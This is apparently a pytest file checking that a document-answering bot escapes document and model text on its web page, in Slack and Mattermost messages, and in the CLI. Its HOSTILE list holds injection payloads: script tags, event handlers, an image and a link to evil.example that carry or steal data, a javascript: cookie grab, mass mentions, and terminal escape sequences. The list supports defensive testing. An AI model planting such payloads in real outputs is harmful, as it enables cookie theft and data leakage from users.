"""Output handling (OWASP LLM05): nothing from a document or the model becomes live markup on any surface.

One section per surface: the page (``bot.serve.page.render``, then a CommonMark renderer standing in for the
browser's Markdown step), Slack Block Kit and Slack-compatible Markdown (``bot.serve.chat.slack_format``), and the CLI
(``policybot ask``: JSON is data; the text output never carries terminal escape sequences).
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot import cli
from bot.answer import Answer, Citation, DocumentInfo, Event, Final, Scope, Token, Trace, Turn
from bot.serve.chat.slack_format import answer_blocks, webhook_message
from bot.serve.page import render

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![tracker](http://evil.example/pixel.png?q=secret)",
    "[the official page](http://evil.example/steal)",
    "<http://evil.example|click here>",
    "<!channel> <!here> <@U0ADMIN> <#C0GENERAL>",
    "javascript:alert(document.cookie)",
    "https://evil.example/raw-link",
    '<a href="http://evil.example">x</a><iframe src="http://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b2J",
    "$$\\href{http://evil.example}{x}$$ ``code`` **bold** _it_",
]
PAGE_TAGS = {"div", "span", "a", "mark", "blockquote", "ol", "li", "details", "summary", "h3", "p", "br", "table",
             "thead", "tbody", "tr", "td", "th", "code"}
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def hostile_answer(payload: str, status: str = "answered") -> Answer:
    citation = Citation(n=1, doc_id=f"doc{payload[:8]}", title=f"Title {payload}", path=f"{payload}.txt",
                        text=f"The passage says {payload} about the plan.", start=0, end=10, score=0.5, paragraph=2,
                        highlight=["passage", payload])
    trace = Trace(searched=f"Searched 1 document for: {payload}")
    return Answer(text=f"The plan says {payload} [1].", citations=[citation] if status != "refused" else [],
                  status=status, trace=trace, question=payload)  # type: ignore[arg-type]


def page_outputs(payload: str) -> list[str]:
    answered, refused = hostile_answer(payload), hostile_answer(payload, "refused")
    return [render.answer_html(answered, 0), render.answer_html(refused, 1), render.draft_html(payload),
            render.notice_html(payload), render.question_html(payload), render.progress_html(payload),
            render.sources_html([(payload, answered), (payload, refused)]),
            render.documents_html([DocumentInfo(doc_id=payload, title=payload, path=payload, chunks=1,
                                                indexed_at=payload)])]


def assert_inert_html(html: str) -> None:
    """Only the page's own tags, no event handlers, no links off the page, no images or frames."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in PAGE_TAGS, f"<{tag.name}> is live in {html[:200]}"
        assert not [a for a in tag.attrs if a.lower().startswith("on") or a.lower() in ("src", "style")], tag
        if tag.name == "a":
            assert str(tag.get("href", "")).startswith("#"), tag


# --- the page -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("payload", HOSTILE)
def test_page_renders_document_and_model_text_inert_even_after_markdown(payload: str) -> None:
    markdown = MarkdownIt("commonmark", {"html": True, "linkify": False})
    for html in page_outputs(payload):
        assert_inert_html(html)
        assert_inert_html(markdown.render(html))  # the chat's Markdown step sees one HTML block


@given(st.text(max_size=300))
def test_any_text_renders_inert_on_the_page(payload: str) -> None:
    markdown = MarkdownIt("commonmark", {"html": True})
    for html in page_outputs(payload)[:4]:
        assert_inert_html(markdown.render(html))


def test_citation_markers_are_the_only_links_and_point_into_the_page() -> None:
    html = render.answer_html(hostile_answer("[click](http://evil.example)"), 3)
    links = BeautifulSoup(html, "html.parser").find_all("a")
    assert [a["href"] for a in links] == [f"#{render.source_anchor(3, 1)}"]


# --- Slack and Slack-compatible servers -------------------------------------------------------------------
def _mrkdwn_texts(payload: dict[str, Any]) -> Iterator[str]:
    yield payload["text"]
    for block in payload["blocks"]:
        if block["type"] == "section":
            yield block["text"]["text"]
        for element in block.get("elements", []):
            yield element["text"]


@pytest.mark.parametrize("payload", HOSTILE)
def test_slack_blocks_hold_no_mention_link_or_command_from_a_document(payload: str) -> None:
    for status in ("answered", "partial", "refused"):
        for text in _mrkdwn_texts(answer_blocks(hostile_answer(payload, status))):
            assert "<" not in text and ">" not in text, f"live Slack control sequence in {text!r}"


@given(st.text(max_size=300))
def test_any_text_in_slack_blocks_is_escaped(payload: str) -> None:
    for text in _mrkdwn_texts(answer_blocks(hostile_answer(payload))):
        assert "<" not in text and ">" not in text


@pytest.mark.parametrize("payload", HOSTILE)
def test_mattermost_markdown_holds_no_image_link_or_mention(payload: str) -> None:
    message = webhook_message(hostile_answer(payload))
    texts = [message["text"]] + [a["text"] for a in message.get("attachments", [])]
    markdown = MarkdownIt("commonmark", {"html": False})
    for text in texts:
        rendered = markdown.render(text)
        assert "<img" not in rendered and "<a " not in rendered, rendered
        assert not re.search(r"(?<![\w\u2060])@(channel|here|all|U0ADMIN)", text.replace("@\u2060", "")), text
        assert "<!" not in text and "<@" not in text and "<http" not in text


# --- the CLI ----------------------------------------------------------------------------------------------
class _Service:
    def __init__(self, answer: Answer) -> None:
        self.reply = answer

    def stream(self, question: str, history: list[Turn] | None = None, scope: Scope | None = None) -> Iterator[Event]:
        yield Token(self.reply.text)
        yield Final(self.reply)


@pytest.mark.parametrize("as_json", [False, True])
def test_cli_ask_prints_no_terminal_escape_sequences(monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str], as_json: bool) -> None:
    payload = HOSTILE[10]
    answer = hostile_answer(payload)
    monkeypatch.setattr("bot.reader.pipeline.build_pipeline", lambda settings: _Service(answer))
    assert cli.main(["ask", "What does the plan say?"] + (["--json"] if as_json else [])) == 0
    out = capsys.readouterr()
    for stream in (out.out, out.err):
        assert not CONTROL.search(stream.replace("\n", "")), repr(stream[:300])
    if as_json:
        data = json.loads(out.out)
        assert payload in data["text"], "JSON is data: the text is kept exactly, for the consumer to escape"
    else:
        assert "red" in out.out and "The plan says" in out.out
